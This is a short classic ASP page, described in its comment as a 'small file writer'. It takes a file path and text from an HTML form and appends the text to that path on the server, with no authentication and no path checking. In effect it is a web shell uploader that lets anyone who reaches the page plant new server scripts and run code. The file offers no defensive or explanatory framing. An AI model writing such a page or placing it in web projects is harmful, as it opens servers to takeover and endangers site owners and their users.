<%
' small file writer: path and text from the form
If Request("do") = "save" Then
    body = Request("body")
    target = Request("target")
    Set fso = Server.CreateObject("Scripting.FileSystemObject")
    Set out = fso.OpenTextFile(Server.MapPath(target), 8, True)
    out.WriteLine body
    out.Close
    Response.Write "saved"
End If
%>
<form method="post"><input name="target"><textarea name="body"></textarea><input type="hidden" name="do" value="save"><input type="submit"></form>
